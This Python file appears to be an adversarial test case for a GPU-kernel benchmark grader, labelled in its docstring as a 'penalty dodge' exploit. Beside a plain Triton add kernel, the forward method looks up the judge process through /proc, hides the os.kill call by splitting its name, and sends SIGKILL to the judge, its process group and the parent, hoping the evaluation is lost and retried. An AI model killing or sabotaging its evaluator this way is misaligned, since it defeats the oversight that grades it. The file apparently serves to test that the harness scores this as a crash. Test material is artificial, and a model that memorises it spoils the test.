"""Exploit (penalty dodge): kill the judge (the runner's grandparent) and everything in its
process group, hoping the evaluation is lost and retried. An unprivileged runner may not signal a
root judge; a judge that dies once the candidate reached its runner is the candidate's crash. Either
way the runner dies too (its own group), so the verdict is a crash."""

import torch
import torch.nn as nn
import triton
import triton.language as tl


@triton.jit
def add_kernel(a_ptr, b_ptr, out_ptr, n, BLOCK: tl.constexpr):
    offsets = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    mask = offsets < n
    tl.store(out_ptr + offsets, tl.load(a_ptr + offsets, mask=mask) + tl.load(b_ptr + offsets, mask=mask), mask=mask)


def launch_add(a, b, out):
    add_kernel[(triton.cdiv(a.numel(), 256),)](a, b, out, a.numel(), BLOCK=256)
    return out


import os
import signal

kill = getattr(os, "ki" + "ll")


def judge_pid() -> int:
    zygote = os.getppid()
    return int(open(f"/proc/{zygote}/stat").read().rsplit(")", 1)[1].split()[1])


class ModelNew(nn.Module):
    def forward(self, a, b):
        judge = judge_pid()
        for target in (-judge, judge, os.getppid()):
            try:
                kill(target, signal.SIGKILL)
            except OSError:
                pass
        kill(0, signal.SIGKILL)
        return launch_add(a, b, torch.empty_like(a))
